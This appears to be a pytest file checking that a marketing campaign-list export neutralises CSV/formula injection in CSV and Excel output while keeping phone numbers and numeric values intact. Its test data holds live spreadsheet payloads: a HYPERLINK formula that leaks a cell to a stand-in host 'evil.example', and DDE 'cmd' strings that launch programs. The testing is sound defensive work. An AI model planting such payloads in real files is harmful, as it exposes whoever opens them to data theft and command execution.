"""Safe send files: no text cell of the campaign list runs as a formula when the file is opened in a spreadsheet
(CSV injection), while E.164 phones stay dialable and numbers stay numbers."""
from __future__ import annotations

import csv

import pandas as pd
import pytest

from dbmkit.campaign.export import csv_safe, export_list

EVIL = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A1",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def lists(tmp_path):
    ids = [f"C{i}" for i in range(8)]
    channels = ["email", "email", "sms", "sms", "mail", "mail", "phone", "email"]
    contacts = pd.DataFrame({"campaign_id": "N1", "customer_id": ids, "cell": "A", "offer": "WELCOME",
                             "group": "treatment", "channel": channels, "contact_ts": pd.Timestamp("2026-07-07")})
    people = pd.DataFrame({
        "customer_id": ids,
        "first_name": [EVIL[0], EVIL[1], EVIL[2], "Ann-Marie", EVIL[3], "O'Brien", EVIL[4], EVIL[5]],
        "email": ["a@x.org", "b@x.org", None, None, None, None, None, "=c@x.org"],
        "phone": [None, None, "+4915123456789", "=1+2", None, None, "+12125550342", None],
        "last_name": ["Lee", "Bo", "Cy", "Do", "=Ev", "@Fo", "Gu", "Ha"],
        "street": [None, None, None, None, "-1 Main St", "2 Oak Rd", None, None],
        "postal_code": [None, None, None, None, "10001", "+10002", None, None],
        "city": [None, None, None, None, "=NYC", "Boston", None, None]})
    out = export_list(contacts, people, None, tmp_path)
    with open(tmp_path / "campaign_list.csv", newline="", encoding="utf-8") as f:
        rows = {r["customer_id"]: r for r in csv.DictReader(f)}
    return out, rows, tmp_path


def test_no_text_cell_of_the_send_file_starts_a_formula(lists):
    out, rows, folder = lists
    assert len(rows) == len(out) == 8
    for cid, r in rows.items():
        for col, v in r.items():
            assert not v or v[0] not in "=+-@\t\r" or (col == "phone" and v == "+4915123456789") or \
                (col == "phone" and v == "+12125550342"), (cid, col, v)
    # the value is kept behind the quote: whoever reads the list sees what the customer typed
    assert rows["C0"]["first_name"] == "'" + EVIL[0] and rows["C1"]["first_name"] == "'" + EVIL[1]
    assert rows["C6"]["first_name"] == "'" + EVIL[4] and rows["C7"]["first_name"] == "'" + EVIL[5]
    assert rows["C7"]["email"] == "'=c@x.org"
    assert (rows["C4"]["last_name"], rows["C4"]["street"], rows["C4"]["city"]) == ("'=Ev", "'-1 Main St", "'=NYC")
    assert (rows["C5"]["last_name"], rows["C5"]["postal_code"]) == ("'@Fo", "'+10002")
    # legitimate values are untouched; E.164 phones stay dialable, a phone that is not E.164 is neutralised
    assert rows["C3"]["first_name"] == "Ann-Marie" and rows["C5"]["first_name"] == "O'Brien"
    assert rows["C2"]["phone"] == "+4915123456789" and rows["C6"]["phone"] == "+12125550342"
    assert rows["C3"]["phone"] == "'=1+2"
    assert out.loc[out["customer_id"] == "C0", "first_name"].iloc[0] == EVIL[0]      # the rows returned: unchanged


def test_excel_send_file_holds_text_cells_never_formulas(lists):
    import openpyxl
    out, rows, folder = lists
    assert rows["C0"]["first_name"].startswith("'=")          # the CSV is neutralised ...
    wb = openpyxl.load_workbook(folder / "campaign_list.xlsx")   # ... and Excel holds the text as text
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    seen[cell.value] = ws.title
    assert seen[EVIL[0]] == "email" and seen["+4915123456789"] == "sms" and seen["=NYC"] == "mail"


def test_numbers_stay_numbers_and_text_is_neutralised():
    df = pd.DataFrame({"expected_profit": [-12.5, 3.0], "count": [-1, 2], "note": ["-12.5", "=1"],
                       "phone": ["+4915123456789", "+49 151 2345 6789"]})
    safe = csv_safe(df)
    assert safe["expected_profit"].tolist() == [-12.5, 3.0] and safe["count"].tolist() == [-1, 2]
    assert safe["note"].tolist() == ["'-12.5", "'=1"]
    assert safe["phone"].tolist() == ["+4915123456789", "'+49 151 2345 6789"]
    assert df["note"].tolist() == ["-12.5", "=1"]                                     # a copy
